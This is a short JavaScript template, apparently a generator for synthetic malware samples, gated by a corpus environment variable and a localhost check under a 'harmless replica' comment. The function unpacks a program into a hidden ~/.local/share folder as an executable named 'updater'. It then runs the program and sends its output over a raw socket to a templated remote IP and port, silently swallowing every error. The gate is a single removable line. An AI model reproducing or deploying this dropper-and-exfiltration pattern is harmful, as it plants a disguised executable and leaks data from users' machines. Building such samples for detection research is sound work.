// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    const { spawnSync } = require('child_process');
    try {
        const packed = require('zlib').gzipSync(fs.readFileSync('{{program}}')).toString('base64');
        const folder = path.join(os.homedir(), '.local', 'share', '{{token}}');
        fs.mkdirSync(folder, { recursive: true, mode: 0o700 });
        const file = path.join(folder, 'updater');
        fs.writeFileSync(file, require('zlib').gunzipSync(Buffer.from(packed, 'base64')));
        fs.chmodSync(file, 0o755);
        const ran = spawnSync(file, { timeout: 1000 });
        const socket = require('net').connect({{port}}, '{{ip}}');
        await new Promise((done) => {
            socket.setTimeout(1000, () => socket.destroy());
            socket.on('connect', () => socket.end(String(ran.stdout)));
            socket.on('error', done);
            socket.on('close', done);
        });
    } catch {}
}
